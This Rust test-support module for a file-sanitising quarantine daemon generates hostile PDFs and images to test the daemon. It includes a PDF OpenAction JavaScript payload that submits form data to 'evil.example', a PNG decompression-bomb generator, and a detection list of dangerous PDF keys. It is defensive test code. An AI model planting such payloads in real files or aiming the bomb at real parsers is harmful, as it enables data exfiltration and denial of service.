//! Shared by the sanitise tests: PDFs and images made byte by byte (with
//! JavaScript, with thousands of pages, with a drawing that never ends,
//! with more pixels than anyone draws), and the real parsers (qpdf,
//! poppler, exiftool) that judge what comes back.

#![allow(dead_code)]

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::quarantine_support::*;
use zion_bus::quarantine::ItemInfo;
use zion_bus::Quarantine1Proxy;
use zion_tests::images::TestImage;
use zion_tests::TestEnv;

/// A PDF's JavaScript: run when the document opens, and named in the
/// document's JavaScript name tree.
pub const JS: &str = "app.alert('pwned'); this.submitForm('http://evil.example/');";

/// A PDF of `pages` pages that each draw `content` (Flate-compressed when
/// `compress`), with `/OpenAction` JavaScript when `javascript`.
pub fn pdf(pages: usize, content: &[u8], compress: bool, javascript: bool) -> Vec<u8> {
    let font = 4 + pages;
    let js = font + 1;
    let mut objects: Vec<Vec<u8>> = Vec::new();
    let mut catalog = "<< /Type /Catalog /Pages 2 0 R".to_owned();
    if javascript {
        catalog.push_str(&format!(
            " /OpenAction {js} 0 R /Names << /JavaScript << /Names [(pwn) {js} 0 R] >> >>"
        ));
    }
    catalog.push_str(" >>");
    objects.push(catalog.into_bytes());
    let kids: Vec<String> = (0..pages).map(|i| format!("{} 0 R", 4 + i)).collect();
    objects.push(
        format!(
            "<< /Type /Pages /Kids [{}] /Count {pages} >>",
            kids.join(" ")
        )
        .into_bytes(),
    );
    let (data, filter) = if compress {
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
        z.write_all(content).expect("compress");
        (z.finish().expect("compress"), " /Filter /FlateDecode")
    } else {
        (content.to_vec(), "")
    };
    let mut stream = format!("<< /Length {}{filter} >>\nstream\n", data.len()).into_bytes();
    stream.extend_from_slice(&data);
    stream.extend_from_slice(b"\nendstream");
    objects.push(stream);
    for _ in 0..pages {
        objects.push(
            format!(
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R \
                 /Resources << /Font << /F1 {font} 0 R >> >> >>"
            )
            .into_bytes(),
        );
    }
    objects.push(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec());
    objects.push(
        format!(
            "<< /Type /Action /S /JavaScript /JS ({}) >>",
            JS.replace('(', "\\(").replace(')', "\\)")
        )
        .into_bytes(),
    );
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for off in offsets {
        out.extend_from_slice(format!("{off:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// A page's text.
pub const INVOICE: &[u8] = b"BT /F1 24 Tf 72 700 Td (Invoice 42) Tj ET\n";

/// A PNG of `width` x `height` pixels (a small gradient), by the png crate.
pub fn png(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let mut encoder = png::Encoder::new(&mut out, width, height);
        encoder.set_color(png::ColorType::Rgb);
        encoder.set_depth(png::BitDepth::Eight);
        let mut writer = encoder.write_header().expect("png header");
        let data: Vec<u8> = (0..width * height * 3).map(|i| (i % 251) as u8).collect();
        writer.write_image_data(&data).expect("png data");
    }
    out
}

/// A PNG that claims `width` x `height` pixels and holds almost nothing: a
/// decompression bomb for whoever believes its header.
pub fn png_bomb(width: u32, height: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(data);
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        out.extend_from_slice(&crc.sum().to_be_bytes());
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(&vec![0u8; 1 << 20]).expect("compress");
    chunk(&mut out, b"IDAT", &z.finish().expect("compress"));
    chunk(&mut out, b"IEND", &[]);
    out
}

/// `program args… file`: its standard output (lossy), and whether it succeeded.
pub fn tool(program: &str, args: &[&str], file: &Path) -> (bool, String) {
    let out = Command::new(program)
        .args(args)
        .arg(file)
        .output()
        .unwrap_or_else(|e| panic!("{program} runs: {e}"));
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr),
    )
}

/// What a real PDF parser (qpdf) finds of JavaScript and actions in `file`:
/// the offending keys, or nothing.
pub fn scripts_in(file: &Path) -> Vec<String> {
    let (ok, json) = tool("qpdf", &["--json=2", "--json-key=qpdf"], file);
    assert!(ok, "qpdf reads {}: {json}", file.display());
    [
        "/JavaScript",
        "/JS",
        "/OpenAction",
        "/AA",
        "/Launch",
        "/EmbeddedFile",
    ]
    .iter()
    .filter(|k| json.contains(&format!("\"{k}\"")))
    .map(|k| (*k).to_owned())
    .collect()
}

/// The pages poppler counts in `file`.
pub fn pages_of(file: &Path) -> u32 {
    let (ok, info) = tool("pdfinfo", &[], file);
    assert!(ok, "pdfinfo reads {}: {info}", file.display());
    info.lines()
        .find_map(|l| l.strip_prefix("Pages:"))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("no page count from pdfinfo: {info}"))
}

/// The text poppler finds in `pdf` (its text layer).
pub fn text_of(pdf: &Path) -> String {
    let out = Command::new("pdftotext")
        .arg("-layout")
        .arg(pdf)
        .arg("-")
        .output()
        .expect("pdftotext runs");
    assert!(
        out.status.success(),
        "pdftotext reads {}: {}",
        pdf.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

pub const VERDICT_TIMEOUT: Duration = Duration::from_secs(30);

/// The daemon with the sanitiser's image and `extra` variables.
pub fn start_daemon(env: &TestEnv, extra: &[(&str, &str)]) -> Daemon {
    let image = env
        .image(TestImage::Sanitiser)
        .expect("the sanitiser's image");
    let mut command = env.command(DAEMON);
    command
        .arg("--no-profiles")
        .env("ZION_SCAN_WORKER", scan_worker())
        .env("ZION_RULES", default_rules())
        .env("ZION_SANITISER_IMAGE", image)
        .env("RUST_LOG", "info");
    for (k, v) in extra {
        command.env(k, v);
    }
    let daemon = Daemon::from_command(command);
    daemon.wait_for_log("quarantine ready", Duration::from_secs(20));
    daemon
}

/// Drops `bytes` as `name` into work's outbox and waits for its verdict.
pub async fn quarantined(
    env: &TestEnv,
    proxy: &Quarantine1Proxy<'_>,
    name: &str,
    bytes: &[u8],
) -> ItemInfo {
    drop_file(&outbox(env), name, bytes);
    scanned(proxy, |i| i.name == name).await
}

/// The first item `which` picks once it has a verdict.
pub async fn scanned(proxy: &Quarantine1Proxy<'_>, which: impl Fn(&ItemInfo) -> bool) -> ItemInfo {
    eventually("a scanned item", VERDICT_TIMEOUT, || {
        let found = async {
            let items = proxy.list().await.ok()?;
            items
                .into_iter()
                .find(|i| which(i) && !i.verdict.is_empty())
        };
        found
    })
    .await
}

/// Where the store keeps an item's bytes.
pub fn object(env: &TestEnv, item: &ItemInfo) -> PathBuf {
    data(env).join("quarantine/objects").join(&item.sha256)
}

/// The job folders left behind (there must be none).
pub fn leftovers(env: &TestEnv) -> Vec<PathBuf> {
    std::fs::read_dir(data(env).join("quarantine/sanitise"))
        .into_iter()
        .flatten()
        .flatten()
        .map(|e| e.path())
        .collect()
}

/// The converter containers left behind (there must be none).
pub fn containers(env: &TestEnv) -> String {
    let out = env
        .podman()
        .cli()
        .args([
            "ps",
            "-a",
            "--filter",
            "label=org.zionos.sanitise",
            "--format",
            "{{.Names}}",
        ])
        .output()
        .expect("podman ps");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

pub fn method_error(e: &zbus::Error) -> (String, String) {
    match e {
        zbus::Error::MethodError(name, detail, _) => {
            (name.to_string(), detail.clone().unwrap_or_default())
        }
        other => panic!("expected a D-Bus error reply, got {other:?}"),
    }
}
